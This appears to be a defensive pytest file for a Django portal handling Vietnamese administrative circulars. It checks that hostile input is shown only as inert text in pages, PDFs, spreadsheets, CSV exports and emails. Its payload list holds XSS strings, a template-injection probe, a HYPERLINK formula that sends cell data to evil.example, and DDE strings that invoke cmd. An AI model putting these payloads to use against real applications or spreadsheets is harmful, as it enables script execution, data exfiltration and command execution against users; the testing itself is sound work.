"""Hostile text in every field a person writes, through the real API and pages, comes
out as text everywhere it is shown: pages, the PDFs, the spreadsheets and CSV files, and
the emails.

For each payload of ``PAYLOADS`` one ``scenario`` runs the whole life of a circular with
the payload in every user-written field (units and groups, the clerk's name, the incoming
dispatch, the circular, the signer's return comment, a refusal, a report with its notes
and file, the monitor's return comment) and keeps what every page, file and email showed;
the tests then read those. A page passes when it has no script without ``src``, no ``on…``
attribute, no ``javascript:`` link and shows the payload as text.
"""

import csv
import datetime
import html
import io
import json
import re
from html.parser import HTMLParser
from types import SimpleNamespace

import openpyxl
import pytest
import time_machine
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.test.utils import override_settings
from django.utils import timezone
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from acknowledgements import links, outbox
from acknowledgements.models import Delivery, ImplementationReport
from chasing import sweep
from tests.conftest import VN, make_user
from units.models import Membership, Unit, UnitGroup
from units.roles import PortalRole

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "img-onerror": '"><img src=x onerror=alert(1)>',
    "js-url": "javascript:alert(1)",
    "svg-onload": "<svg onload=alert(1)>",
    "template": "{{7*7}}",
    "textarea-breakout": "</textarea><script>alert(1)</script>",
    "a-href-js": '<a href="javascript:alert(1)">x</a>',
    "comment-style-script-breakout": "'\"--></style></script><script>alert(1)</script>",
    "xlsx-hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "dde-minus": "-2+3+cmd|' /C calc'!A0",
    "dde-at": "@SUM(1+9)*cmd|' /C calc'!A0",
}
PDF_BYTES = b"%PDF-1.4\n%%EOF\n"
# The scenario runs on Tuesday 15/10/2024 from 09:00, the clock running: the circular is
# issued that day and its acknowledgement is due Thursday 17/10. The sweep that finds the
# silent commune late runs on Friday 18/10. Which reminder is due, and so which emails go
# out, depends on the weekday: "now" would make the scenario change with the calendar.
STARTED_AT = datetime.datetime(2024, 10, 15, 9, 0, tzinfo=VN)
LATE = datetime.datetime(2024, 10, 18, 8, 0, tzinfo=VN)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}


# --- Reading what came out --------------------------------------------------------------


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.text: list[str] = []
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script" and not attrs.get("src"):
            self.problems.append(f"<script> without src: {self.get_starttag_text()}")
        for name, value in attrs.items():
            if name.startswith("on"):
                self.problems.append(f"event handler attribute {name!r}: {self.get_starttag_text()}")
            if name == "srcdoc":
                self.problems.append(f"srcdoc: {self.get_starttag_text()}")
            scheme = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name in URL_ATTRIBUTES and scheme.startswith(("javascript:", "vbscript:", "data:text/html")):
                self.problems.append(f"script URL in {name!r}: {self.get_starttag_text()}")

    def handle_data(self, data):
        self.text.append(data)


def read_html(markup: str) -> _Reader:
    reader = _Reader()
    reader.feed(markup)
    reader.close()
    return reader


def squeeze(text: str) -> str:
    return " ".join(text.split())


def assert_shown_as_text(name: str, markup: str, payload: str) -> None:
    """No executable form anywhere, the payload visible as text, never present raw."""
    reader = read_html(markup)
    assert not reader.problems, f"{name}: " + "; ".join(reader.problems)
    assert squeeze(payload) in squeeze(" ".join(reader.text)), f"{name} does not show the payload as text"
    if "<" in payload:
        assert payload not in markup, f"{name} has the payload unescaped"


def pdf_text(data: bytes) -> str:
    return "".join("".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(data)).pages)


def pdf_actions(data: bytes) -> list[str]:
    """Every script, launch or auto-run action reachable from the PDF's trailer."""
    reader = PdfReader(io.BytesIO(data))
    found, seen = [], set()

    def walk(obj):
        if isinstance(obj, IndirectObject):
            key = (obj.idnum, obj.generation)
            if key in seen:
                return
            seen.add(key)
            obj = obj.get_object()
        if isinstance(obj, DictionaryObject):
            for key, value in obj.items():
                if key in ("/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/SubmitForm", "/ImportData"):
                    found.append(key)
                if key == "/S" and value in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/Rendition"):
                    found.append(f"/S {value}")
                if key == "/URI" and str(value).strip().lower().startswith("javascript:"):
                    found.append(f"/URI {value}")
                if key != "/Parent":
                    walk(value)
        elif isinstance(obj, ArrayObject):
            for item in obj:
                walk(item)

    walk(reader.trailer)
    return found


def xlsx_cells(data: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def csv_fields(data: bytes) -> list[str]:
    text = data.decode("utf-8").removeprefix("\ufeff")
    return [field for row in csv.reader(io.StringIO(text)) for field in row]


# --- The scenario ----------------------------------------------------------------------


def token_client(user) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return client


def page_client(user=None) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def ok(response, status=200):
    assert response.status_code == status, (response.status_code, response.content[:2000])
    return response


def pdf_upload(name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, PDF_BYTES, content_type="application/pdf")


def run_scenario(p: str) -> SimpleNamespace:
    """The life of one circular with ``p`` in every field people write. Returns the pages
    (name → HTML), files (name → bytes) and the emails sent, in the order they happened."""
    s = SimpleNamespace(payload=p, pages={}, files={})
    today = timezone.localdate()

    district = Unit.objects.create(
        code="ubnd-huyen", name=f"Ủy ban nhân dân huyện {p}", kind=Unit.Kind.PEOPLES_COMMITTEE
    )
    unit = Unit.objects.create(code="xa-mot", name=f"{p} xã Một", kind=Unit.Kind.COMMUNE, parent=district)
    other_unit = Unit.objects.create(code="xa-hai", name=f"{p} xã Hai", kind=Unit.Kind.COMMUNE, parent=district)
    silent_unit = Unit.objects.create(code="xa-ba", name=p, kind=Unit.Kind.COMMUNE, parent=district)
    monitoring_unit = Unit.objects.create(
        code="phong-vhtt", name=f"{p} Phòng Văn hóa", kind=Unit.Kind.DEPARTMENT, parent=district
    )
    group = UnitGroup.objects.create(code="cac-xa", name=p)
    group.units.set([unit, other_unit])

    clerk = make_user("clerk", unit=unit, full_name=p)
    other_clerk = make_user("other-clerk", unit=other_unit)
    make_user("silent-clerk", unit=silent_unit)
    monitor = make_user("monitor", role=PortalRole.MONITOR, unit=monitoring_unit)
    records_clerk = make_user("records-clerk", role=PortalRole.RECORDS_CLERK)
    drafter = make_user("drafter", role=PortalRole.DRAFTER)
    signer = make_user("signer", role=PortalRole.SIGNER)
    make_user("head", unit=unit, unit_role=Membership.Role.HEAD)
    api = {u.username: token_client(u) for u in (clerk, other_clerk, monitor, records_clerk, drafter, signer)}

    # The incoming register, with a scanned file whose name is the payload.
    incoming = ok(
        api["records-clerk"].post(
            "/api/v1/incoming/",
            {
                "issuer": p,
                "reference": "2980/STTTT-TTra",
                "document_date": (today - datetime.timedelta(days=2)).isoformat(),
                "subject": p,
                "signer_name": p,
                "handled_by": p,
                "note": p,
                "file": pdf_upload(f"{p}.pdf"),
            },
            format="multipart",
        ),
        201,
    ).json()

    # Drafted, returned by the signer with the payload as comment, seen while returned.
    circular = ok(
        api["drafter"].post(
            "/api/v1/circulars/",
            {
                "subject": p,
                "body": p,
                # A notation is letters and digits only: the payload is refused (tests/circulars/test_notation.py).
                "in_response_to": [incoming["id"]],
                "recipient_groups": [group.pk],
                "recipient_units": [silent_unit.pk],
                "recipients_text": p,
                "copy_to": [p, "Lưu: VT."],
                "action_items": [p, "Lưu lại bằng chứng"],
                "monitoring_unit": monitoring_unit.pk,
                "report_due_on": (today + datetime.timedelta(days=20)).isoformat(),
                "signer": "signer",
                "signer_title": p,
            },
            format="json",
        ),
        201,
    ).json()
    pk = circular["id"]
    ok(api["drafter"].post(f"/api/v1/circulars/{pk}/submit"))
    ok(api["signer"].post(f"/api/v1/circulars/{pk}/return", {"comment": p}, format="json"))
    as_drafter = page_client(drafter)
    s.pages["circular edit form (returned)"] = ok(as_drafter.get(f"/circulars/{pk}/edit/")).content.decode()
    s.pages["circular new form, refused input echoed"] = ok(
        as_drafter.post(
            "/circulars/new/",
            {"subject": p, "body": p, "copy_to": p, "action_items": p, "recipients_text": p, "signer_title": p},
        ),
        400,
    ).content.decode()

    # Signed, issued, distributed.
    ok(api["drafter"].post(f"/api/v1/circulars/{pk}/submit"))
    ok(api["signer"].post(f"/api/v1/circulars/{pk}/approve"))
    issued = ok(api["records-clerk"].post(f"/api/v1/circulars/{pk}/issue", {}, format="json")).json()
    ok(api["records-clerk"].post(f"/api/v1/circulars/{pk}/distribute"))
    delivery = Delivery.objects.get(circular_id=pk, unit=unit)
    other_delivery = Delivery.objects.get(circular_id=pk, unit=other_unit)

    # The other commune refuses; the clerk reports, the monitor returns, the clerk reports again.
    ok(api["other-clerk"].post(f"/api/v1/deliveries/{other_delivery.pk}/refuse", {"reason": p}, format="json"))
    items = [{"action_item": a["id"], "status": "done", "note": p} for a in circular["action_items"]]
    report = ok(
        api["clerk"].post(
            f"/api/v1/deliveries/{delivery.pk}/reports",
            {"summary": p, "items": json.dumps(items), "files": [pdf_upload(f"{p}.pdf")]},
            format="multipart",
        ),
        201,
    ).json()
    ok(api["monitor"].post(f"/api/v1/reports/{report['id']}/return", {"comment": p}, format="json"))
    as_clerk = page_client(clerk)
    s.pages["report form (after a return)"] = ok(as_clerk.get(f"/deliveries/{delivery.pk}/report/")).content.decode()
    ok(
        api["clerk"].post(f"/api/v1/deliveries/{delivery.pk}/reports", {"summary": p, "items": items}, format="json"),
        201,
    )
    ok(api["monitor"].post(f"/api/v1/circulars/{pk}/chase", {"units": [silent_unit.pk]}, format="json"))
    # The morning after its acknowledgement deadline the silent commune is late: the
    # sweep's reminder for a normal circular goes out in the digest.
    sweep.sweep(LATE)
    sweep.send_digests(LATE)
    outbox.send_due()
    s.emails = list(mail.outbox)

    # Every page that shows what was written.
    as_records_clerk, as_monitor, anonymous = page_client(records_clerk), page_client(monitor), page_client()
    latest = ImplementationReport.objects.filter(delivery=delivery).order_by("-version").first()
    s.pages.update(
        {
            "incoming list": ok(as_records_clerk.get("/incoming/")).content,
            "incoming detail": ok(as_records_clerk.get(f"/incoming/{incoming['id']}/")).content,
            "incoming form, refused input echoed": ok(
                as_records_clerk.post(
                    "/incoming/new/",
                    {"issuer": p, "reference": "1/X", "subject": p, "handled_by": p, "note": p, "signer_name": p},
                ),
                400,
            ).content,
            "circular list": ok(as_drafter.get("/circulars/")).content,
            "circular detail (drafter)": ok(as_drafter.get(f"/circulars/{pk}/")).content,
            "circular detail (unit clerk)": ok(as_clerk.get(f"/circulars/{pk}/")).content,
            "home (unit clerk)": ok(as_clerk.get("/")).content,
            "inbox": ok(as_clerk.get("/inbox/")).content,
            "delivery page (unit clerk)": ok(as_clerk.get(f"/deliveries/{delivery.pk}/")).content,
            "delivery page (monitor)": ok(as_monitor.get(f"/deliveries/{delivery.pk}/")).content,
            "refused delivery page (monitor)": ok(as_monitor.get(f"/deliveries/{other_delivery.pk}/")).content,
            "notifications (unit clerk)": ok(as_clerk.get("/notifications/")).content,
            "notifications (monitor)": ok(as_monitor.get("/notifications/")).content,
            "dashboard overview": ok(as_monitor.get("/dashboard/")).content,
            "dashboard circular page": ok(as_monitor.get(f"/circulars/{pk}/deliveries/")).content,
            "dashboard report panel": ok(
                as_monitor.get(f"/circulars/{pk}/deliveries/{delivery.pk}/report", HTTP_HX_REQUEST="true")
            ).content,
            "dashboard units league": ok(as_monitor.get("/dashboard/units/")).content,
            "verify page (public)": ok(anonymous.get(f"/verify/{issued['verification_code']}")).content,
            "one-click link page (public)": ok(
                anonymous.get(f"/ack/{links.make_ack_token(user_id=clerk.pk, delivery_id=delivery.pk)}/")
            ).content,
        }
    )
    s.pages = {name: page.decode() if isinstance(page, bytes) else page for name, page in s.pages.items()}
    assert latest is not None and latest.version == 2

    s.files = {
        "circular.pdf": b"".join(ok(as_clerk.get(f"/circulars/{pk}/pdf")).streaming_content),
        "summary.pdf": ok(as_monitor.get(f"/circulars/{pk}/report.pdf")).content,
        "units.xlsx": ok(as_monitor.get(f"/circulars/{pk}/export.xlsx")).content,
        "units.csv": ok(as_monitor.get(f"/circulars/{pk}/export.csv")).content,
        "league.xlsx": ok(as_monitor.get("/dashboard/units/export.xlsx")).content,
        "league.csv": ok(as_monitor.get("/dashboard/units/export.csv")).content,
        "incoming.xlsx": ok(as_records_clerk.get("/incoming/export.xlsx")).content,
        "api units.xlsx": ok(api["monitor"].get(f"/api/v1/circulars/{pk}/compliance/export.xlsx")).content,
        "api units.csv": ok(api["monitor"].get(f"/api/v1/circulars/{pk}/compliance/export.csv")).content,
    }
    return s


@pytest.fixture(scope="module", params=list(PAYLOADS.values()), ids=list(PAYLOADS))
def scenario(request, django_db_setup, django_db_blocker, tmp_path_factory):
    """One scenario per payload, built once for all the tests that read it, inside a
    transaction rolled back afterwards, on a fixed day (see ``STARTED_AT``)."""
    with (
        django_db_blocker.unblock(),
        override_settings(
            MEDIA_ROOT=tmp_path_factory.mktemp("media"),
            EMAIL_BACKEND="django.core.mail.backends.locmem.EmailBackend",
        ),
        transaction.atomic(),
    ):
        mail.outbox = []
        with time_machine.travel(STARTED_AT):
            built = run_scenario(request.param)
        yield built
        transaction.set_rollback(True)


# --- Pages ---------------------------------------------------------------------------------


PAGES = [
    "circular edit form (returned)",
    "circular new form, refused input echoed",
    "report form (after a return)",
    "incoming list",
    "incoming detail",
    "incoming form, refused input echoed",
    "circular list",
    "circular detail (drafter)",
    "circular detail (unit clerk)",
    "home (unit clerk)",
    "inbox",
    "delivery page (unit clerk)",
    "delivery page (monitor)",
    "refused delivery page (monitor)",
    "notifications (unit clerk)",
    "notifications (monitor)",
    "dashboard overview",
    "dashboard circular page",
    "dashboard report panel",
    "dashboard units league",
    "verify page (public)",
    "one-click link page (public)",
]


@pytest.mark.parametrize("page", PAGES)
def test_pages_show_the_payload_as_text_only(scenario, page):
    assert_shown_as_text(page, scenario.pages[page], scenario.payload)


def test_every_page_of_the_scenario_is_checked(scenario):
    assert sorted(scenario.pages) == sorted(PAGES)


def test_the_body_keeps_no_markup_that_runs(scenario):
    """The body is rich text: sanitised, its allowed tags kept, anything else dropped."""
    page = scenario.pages["circular detail (drafter)"]
    body = re.search(r'id="circular-body">(.*?)</div>', page, re.S).group(1)
    assert not read_html(body).problems
    assert not re.search(r"<(script|img|svg|iframe|object|embed|style)\b", body, re.I), body


def test_form_fields_carry_the_payload_as_their_value(scenario):
    """Text areas and inputs hold the payload as their value, not as markup after them."""
    p = squeeze(scenario.payload)
    form = scenario.pages["circular edit form (returned)"]
    for name in ("recipients_text", "copy_to", "action_items", "signer_title"):
        content = re.search(rf'<textarea[^>]*name="{name}"[^>]*>(.*?)</textarea>', form, re.S)
        assert content and p in squeeze(html.unescape(content.group(1))), name
    subject = re.search(r'<input[^>]*name="subject"[^>]*value="([^"]*)"', form)
    assert subject and squeeze(html.unescape(subject.group(1))) == p


# --- PDFs ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["circular.pdf", "summary.pdf"])
def test_pdfs_have_no_actions(scenario, name):
    assert pdf_actions(scenario.files[name]) == []


def test_the_circular_pdf_prints_the_payload_as_text(scenario):
    text = pdf_text(scenario.files["circular.pdf"])
    assert "".join(scenario.payload.split()) in text


def test_the_summary_pdf_prints_the_refusal_as_text(scenario):
    text = pdf_text(scenario.files["summary.pdf"])
    assert "".join(scenario.payload.split()) in text


# --- Spreadsheets and CSV -----------------------------------------------------------------


@pytest.mark.parametrize("name", ["units.xlsx", "league.xlsx", "incoming.xlsx", "api units.xlsx"])
def test_spreadsheets_hold_no_formula(scenario, name):
    cells = list(xlsx_cells(scenario.files[name]))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is a formula"
    assert any(isinstance(c.value, str) and scenario.payload in c.value for c in cells), "the payload is missing"


@pytest.mark.parametrize("name", ["units.xlsx", "league.xlsx", "api units.xlsx"])
def test_spreadsheet_text_that_looks_like_a_formula_is_quoted(scenario, name):
    risky = [
        c.coordinate
        for c in xlsx_cells(scenario.files[name])
        if isinstance(c.value, str) and c.value.startswith(FORMULA_START) and not c.quotePrefix
    ]
    assert not risky, f"cells {risky} would run as formulas once edited"


INCOMING_EXPORT_GAP = (
    "circulars/views.py:incoming_export types such cells as text (data_type 's') but neither prefixes them "
    "nor sets quotePrefix: opened they are text, edited in Excel they become formulas"
)


def test_incoming_register_text_that_looks_like_a_formula_is_quoted(scenario, request):
    looks_like_formula = [
        c
        for c in xlsx_cells(scenario.files["incoming.xlsx"])
        if isinstance(c.value, str) and c.value.startswith(FORMULA_START)
    ]
    # What holds today: such text is typed as text, so opening the file runs nothing.
    assert all(c.data_type == "s" for c in looks_like_formula)
    risky = [c.coordinate for c in looks_like_formula if not c.quotePrefix]
    assert not risky, f"cells {risky} would run as formulas once edited"


@pytest.mark.parametrize("name", ["units.csv", "league.csv", "api units.csv"])
def test_csv_fields_never_start_like_a_formula(scenario, name):
    fields = csv_fields(scenario.files[name])
    assert not [f for f in fields if f.startswith(FORMULA_START)]
    assert any(scenario.payload in f for f in fields), "the payload is missing"


# --- Emails ---------------------------------------------------------------------------------


def email_kind(subject: str) -> str:
    for words, kind in (("Tổng hợp", "digest"), ("cần bổ sung", "report_returned"), ("Đôn đốc", "reminder")):
        if words in subject:
            return kind
    return "new_delivery"


def test_the_scenario_sent_each_kind_of_email(scenario):
    kinds = {email_kind(m.subject) for m in scenario.emails}
    assert kinds == {"new_delivery", "report_returned", "reminder", "digest"}, [m.subject for m in scenario.emails]


def test_email_text_bodies_carry_the_payload_literally(scenario):
    p = scenario.payload
    for message in scenario.emails:
        assert p in message.body, (message.to, message.subject)
        if html.escape(p) != p:
            assert html.escape(p) not in message.body, (message.to, message.subject)


def test_email_subjects_are_plain_text(scenario):
    p = scenario.payload
    for message in scenario.emails:
        assert not re.search(r"&(lt|gt|amp|quot|#x27|#39);", message.subject), message.subject
        if email_kind(message.subject) in ("new_delivery", "reminder"):
            # The circular's subject, or the unit's name, is in the subject line as written.
            assert p in message.subject, message.subject


def test_email_html_alternatives_escape_the_payload(scenario):
    for message in scenario.emails:
        ((markup, mimetype),) = message.alternatives
        assert mimetype == "text/html"
        assert_shown_as_text(f"email to {message.to[0]}: {message.subject}", markup, scenario.payload)
